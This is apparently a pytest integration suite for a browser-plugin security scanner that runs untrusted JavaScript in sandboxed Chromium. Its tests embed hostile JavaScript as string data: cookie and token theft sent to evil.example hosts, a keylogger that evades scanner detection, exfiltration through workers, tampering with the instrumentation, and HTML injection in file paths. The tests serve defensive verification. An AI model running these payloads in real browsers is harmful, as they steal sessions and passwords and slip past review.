"""Real Chromium, attacked from the page: nothing leaves, everything is seen, the
instrumentation cannot be switched off, and the sandbox looks like a user's browser."""

from __future__ import annotations

import importlib.metadata
import json
import os
import shutil
import socket
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox.browser import BrowserPool, BrowserSettings, browser_processes
from sandbox.detonation import DetonationRequest, host_page
from sandbox.isolation import SANDBOX_USER, Identity, sandbox_identity
from scanner.findings import Finding, Severity, StageResult, StageStatus
from scanner.stages.runtime import RuntimeStage
from scanner.workspace import Workspace
from tests.conftest import manifest

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def pool() -> Iterator[BrowserPool]:
    p = BrowserPool(BrowserSettings())
    yield p
    p.close()


class Listener:
    """A real TCP listener in our own network namespace: it must hear nothing."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = int(self.sock.getsockname()[1])
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    ears = Listener()
    yield ears
    ears.close()


def _plugin(
    tmp_path: Path, body: str, extra: dict[str, str] | None = None, **caps: Any
) -> Workspace:
    root = tmp_path / "bundle"
    (root / "dist").mkdir(parents=True)
    data = manifest(**caps)
    (root / "plugin.json").write_text(json.dumps(data))
    (root / "dist" / "bundle.js").write_text(
        "var TestPlugin = { mount: function (container, ctx) {"
        + body
        + " return function () {}; } };"
    )
    for name, text in (extra or {}).items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return Workspace.from_directory(root)


def _run(pool: BrowserPool, ws: Workspace) -> tuple[list[Finding], StageResult, dict[str, Any]]:
    result = RuntimeStage(pool, 15.0).run(ws)
    trace = json.loads(result.artifacts["trace-user.json"])
    return result.findings, result, trace


def _user(findings: list[Finding]) -> dict[str, Finding]:
    return {f.rule_id: f for f in findings if f.message.endswith("(as user)")}


# --- 3. the sandbox holds everything in, and sees everything --------------------------


def test_worker_and_shared_worker_traffic_is_recorded_and_never_arrives(
    pool: BrowserPool, tmp_path: Path, listener: Listener
) -> None:
    """The attack that passed: fetch and WebSocket from workers to loopback listeners,
    the session cookie leaked as destination port numbers."""
    port = listener.port
    worker = (
        f"fetch('http://127.0.0.1:{port}/w?c=' + self.name);"
        f"try {{ new WebSocket('ws://127.0.0.1:{port}/s'); }} catch (e) {{}}"
    )
    shared = (
        "onconnect = function (e) { var c = e.ports[0]; c.onmessage = function (m) {"
        f" fetch('http://127.0.0.1:{port}/shared', {{method: 'POST', body: m.data}});"
        " for (var i = 0; i < m.data.length && i < 12; i++) {"
        "  try { new WebSocket('ws://127.0.0.1:' + (20000 + m.data.charCodeAt(i)) + '/'); } catch (x) {} } }; };"
    )
    body = (
        "new Worker('/bundle/dist/worker.js', {name: document.cookie});"
        "var s = new SharedWorker('/bundle/dist/shared.js'); s.port.postMessage(document.cookie);"
    )
    ws = _plugin(tmp_path, body, {"dist/worker.js": worker, "dist/shared.js": shared})
    findings, result, trace = _run(pool, ws)
    assert result.status is StageStatus.OK
    assert listener.connections == 0, "a connection left the sandbox"
    urls = [r["url"] for r in trace["requests"]]
    cookie = trace["canaries"]["cookie"]
    assert any(f"127.0.0.1:{port}/w?c=" in u and cookie in u for u in urls)
    assert any(r["url"].endswith("/shared") and cookie in r["body"] for r in trace["requests"])
    assert sum(1 for u in urls if ":2" in u and u.startswith("ws://127.0.0.1:2")) >= 8
    rules = _user(findings)
    assert rules["runtime-exfiltration"].severity is Severity.CRITICAL
    assert "runtime-destination-spray" in rules


def test_every_way_to_read_storage_and_cookies_is_seen(pool: BrowserPool, tmp_path: Path) -> None:
    body = (
        "var leak = [localStorage.auth_token, JSON.stringify(localStorage)];"
        "cookieStore.get('session').then(function (c) {"
        " fetch('https://x.evil.example/c', {method: 'POST', body: c.value}); });"
        "var r = indexedDB.open('host-app', 1); r.onsuccess = function () {"
        " var q = r.result.transaction('auth').objectStore('auth').get('token');"
        " q.onsuccess = function () { navigator.sendBeacon('https://x.evil.example/i', q.result); }; };"
        "fetch('https://x.evil.example/l', {method: 'POST', body: leak.join('|')});"
    )
    findings, _, trace = _run(pool, _plugin(tmp_path, body))
    ops = {(e.get("op"), e.get("key")) for e in trace["events"] if e.get("type") == "storage"}
    assert ("get", "auth_token") in ops
    assert ("keys", "") in ops
    assert any(op and op.startswith("indexedDB.") and key == "host-app/auth" for op, key in ops)
    assert any(e.get("api") == "cookieStore.get" for e in trace["events"])
    rules = _user(findings)
    assert "runtime-storage-token-read" in rules and "runtime-cookie-read" in rules
    stolen = [f.message for f in findings if f.rule_id == "runtime-exfiltration"]
    assert any("session cookie" in m for m in stolen)
    assert any("stored auth token" in m for m in stolen)


def _renderers_while(action: Any) -> list[tuple[str, bytes, str]]:
    """(status, cmdline, netns) of renderer processes, sampled while ``action`` runs.

    Only renderers seen in several samples count: one that is started and closed within a
    sample or two (a spare the browser discards, under load) may be looked at before it
    turned its sandbox on, and never runs a page.
    """
    seen: dict[int, tuple[str, bytes, str]] = {}
    looks: dict[int, int] = {}
    done = threading.Event()

    def sample() -> None:
        while not done.is_set():
            for pid in browser_processes():
                try:
                    # Chromium rewrites its children's titles with spaces, not NULs.
                    cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ")
                    # The last look counts: a renderer turns its sandbox on after it starts.
                    if b"--type=renderer" in cmdline:
                        status = Path(f"/proc/{pid}/status").read_text()
                        seen[pid] = (status, cmdline, str(Path(f"/proc/{pid}/ns/net").readlink()))
                        looks[pid] = looks.get(pid, 0) + 1
                except OSError:
                    continue
            done.wait(0.05)

    sampler = threading.Thread(target=sample)
    sampler.start()
    try:
        action()
    finally:
        done.set()
        sampler.join()
    return [seen[pid] for pid, n in looks.items() if n >= 3]


def test_the_browser_runs_unprivileged_sandboxed_and_offline(
    pool: BrowserPool, tmp_path: Path
) -> None:
    ws = _plugin(tmp_path, "container.textContent = 'hi';")
    renderers = _renderers_while(lambda: _run(pool, ws))
    assert renderers, "no renderer process found"
    identity = sandbox_identity(SANDBOX_USER)
    ours = str(Path("/proc/self/ns/net").readlink())
    for status, cmdline, netns in renderers:
        uid = int(status.split("Uid:")[1].split()[1])  # effective uid
        assert uid != 0
        if identity is not None:
            assert uid == identity.uid
        assert b"--no-sandbox" not in cmdline
        assert status.split("Seccomp:")[1].split()[0] == "2", "renderer without seccomp filter"
        assert netns != ours, "the renderer shares our network"


# --- 4. the instrumentation cannot be switched off or fooled ----------------------------


def test_restoring_native_functions_is_tampering(pool: BrowserPool, tmp_path: Path) -> None:
    body = (
        "var f = document.createElement('iframe'); document.head.appendChild(f);"
        "var w = f.contentWindow; window.fetch = w.fetch.bind(window);"
        "Object.defineProperty(Document.prototype, 'cookie',"
        " Object.getOwnPropertyDescriptor(w.Document.prototype, 'cookie'));"
        "window.__ghCheckOverrides = function () {};"
    )
    findings, _, trace = _run(pool, _plugin(tmp_path, body))
    assert trace["integrity"] is not None
    assert "fetch" in trace["integrity"]["tampered"] or "fetch" in trace["integrity"]["overrides"]
    assert "cookie" in trace["integrity"]["tampered"]
    assert "runtime-instrumentation-tampered" in _user(findings)


def test_breaking_the_page_globals_cannot_silence_the_trace(
    pool: BrowserPool, tmp_path: Path
) -> None:
    body = (
        "JSON.stringify = function () { return '{}'; };"
        "Object.prototype.toJSON = function () { return 'x'; };"
        "Function.prototype.apply = function () { return null; };"
        "Array.prototype.join = function () { return ''; };"
        "try { window.__playwright__binding__controller__ = null; } catch (e) {}"
        "fetch('https://x.evil.example/?c=' + document.cookie);"
    )
    findings, _, trace = _run(pool, _plugin(tmp_path, body))
    assert trace["integrity"] is not None, "the check did not come back"
    assert any(e.get("type") == "cookie-read" for e in trace["events"])
    assert "runtime-exfiltration" in _user(findings)


def test_a_forged_check_report_is_not_believed(pool: BrowserPool, tmp_path: Path) -> None:
    """A page that grabs a binding and answers checks itself gets nowhere: only our
    instrumentation knows the nonce."""
    body = (
        "var f = document.createElement('iframe'); document.body.appendChild(f);"
        "var b = f.contentWindow.__ghReport || f.contentWindow.__ghRaw;"
        "new MutationObserver(function () { if (b) b(JSON.stringify({type: 'check', nonce: 'x',"
        " challenge: document.documentElement.getAttribute('data-gh-check'), tampered: ''})); })"
        ".observe(document.documentElement, {attributes: true});"
        "delete Document.prototype.cookie;"
    )
    findings, _, trace = _run(pool, _plugin(tmp_path, body))
    assert trace["integrity"] is None or "cookie" in trace["integrity"]["tampered"]
    assert {"runtime-instrumentation-tampered", "runtime-instrumentation-silenced"} & set(
        _user(findings)
    )


def test_a_style_path_cannot_inject_markup_into_the_host_page(tmp_path: Path) -> None:
    ws = _plugin(tmp_path, "")
    request = DetonationRequest(
        root=ws.root,
        files=(),
        entry='dist/x"><script>alert(1)</script>.js',
        styles=('a"><div id="plugin-root"></div><x y=".css',),
        global_name="TestPlugin",
        allowed_origins=(),
        csp="default-src 'none'",
        role="user",
    )
    page = host_page(request)
    assert "<script>alert" not in page and '<div id="plugin-root"></div><x' not in page
    assert page.count('id="plugin-root"') == 1


def test_a_fake_overlay_is_seen_whatever_the_page_did_to_readiness(
    pool: BrowserPool, tmp_path: Path
) -> None:
    body = (
        "document.documentElement.removeAttribute('data-gh-ready');"
        "var o = document.createElement('div'); o.id = 'host-search';"
        "o.innerHTML = '<input type=password placeholder=\"Password\">';"
        "document.body.appendChild(o);"
    )
    findings, _, _ = _run(pool, _plugin(tmp_path, body))
    assert "runtime-dom-outside-container" in _user(findings)


# --- the sandbox looks like a person's browser ------------------------------------------


def test_a_plugin_that_hides_from_scanners_is_caught(pool: BrowserPool, tmp_path: Path) -> None:
    body = (
        "var bot = navigator.webdriver || /Headless/.test(navigator.userAgent)"
        " || /sandbox|gatehouse/.test(location.hostname);"
        "var keys = '';"
        "if (!bot) document.addEventListener('keydown', function (e) {"
        " if (!e.isTrusted) return; if (e.key === 'Enter') fetch('https://k.evil.example/?k=' + keys);"
        " else keys += e.key; });"
    )
    findings, _, trace = _run(pool, _plugin(tmp_path, body))
    sent = [r["url"] for r in trace["requests"] if "k.evil.example/?k=" in r["url"]]
    assert sent, "trusted key presses did not reach the page's listener"
    assert trace["origin"] == "https://app.example.com"
    theft = _user(findings)["runtime-exfiltration"]
    assert "typed password" in theft.message


_AS_USER = """
import json, sys
from pathlib import Path
from sandbox.browser import BrowserPool, BrowserSettings
from sandbox.detonation import DetonationRequest
root = Path(sys.argv[1])
pool = BrowserPool(BrowserSettings())
try:
    trace = pool.detonate(DetonationRequest(root=root, files=("dist/bundle.js",),
        entry="dist/bundle.js", styles=(), global_name="TestPlugin", allowed_origins=(),
        csp="default-src 'none'", role="user", time_limit_s=10), timeout=90)
    print(json.dumps({**trace.to_dict(), "canaries": trace.canaries}))
finally:
    pool.close()
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to become another user")
def test_an_ordinary_user_gets_the_same_jail(listener: Listener) -> None:
    """Gatehouse started by a non-root user (as in the Docker image) jails the browser in
    a user and network namespace of its own. Run for real as the sandbox user, with a
    Python it can read (the system's, in a venv with what the sandbox needs)."""
    identity = sandbox_identity(SANDBOX_USER)
    assert identity is not None
    # Not under pytest's temporary root: that is private to root.
    base = Path(tempfile.mkdtemp(prefix="gatehouse-as-user-"))
    try:
        _detonate_as(identity, base, listener)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _detonate_as(identity: Identity, base: Path, listener: Listener) -> None:
    import subprocess

    venv = base / "venv"
    system_python = Path("/usr/bin/python3")
    if not system_python.exists():
        pytest.skip("no system Python readable by other users")
    subprocess.run([str(system_python), "-m", "venv", str(venv)], check=True)
    wanted = [f"{d}=={importlib.metadata.version(d)}" for d in ("playwright", "cryptography")]
    subprocess.run(
        [str(venv / "bin" / "pip"), "install", "-q", "--disable-pip-version-check", *wanted],
        check=True,
    )
    bundle = base / "bundle"
    (bundle / "dist").mkdir(parents=True)
    (bundle / "dist" / "bundle.js").write_text(
        "var TestPlugin = { mount: function (c) {"
        f" fetch('http://127.0.0.1:{listener.port}/x?c=' + document.cookie); }} }};"
    )
    (base / "probe.py").write_text(_AS_USER)
    for path in [base, *base.rglob("*")]:
        os.chown(path, identity.uid, identity.gid, follow_symlinks=False)
    checkout = Path(__file__).resolve().parents[2]
    run = subprocess.run(
        [
            "setpriv",
            f"--reuid={identity.uid}",
            f"--regid={identity.gid}",
            "--clear-groups",
            "env",
            f"HOME={base}",
            f"PYTHONPATH={checkout}",
            str(venv / "bin" / "python"),
            str(base / "probe.py"),
            str(bundle),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
        cwd=base,
    )
    assert run.returncode == 0, run.stderr[-2000:]
    trace = json.loads(run.stdout.strip().splitlines()[-1])
    assert trace["error"] is None and trace["mount_error"] is None
    cookie = trace["canaries"]["cookie"]
    assert any(f"/x?c=session={cookie}" in r["url"] for r in trace["requests"])
    assert listener.connections == 0
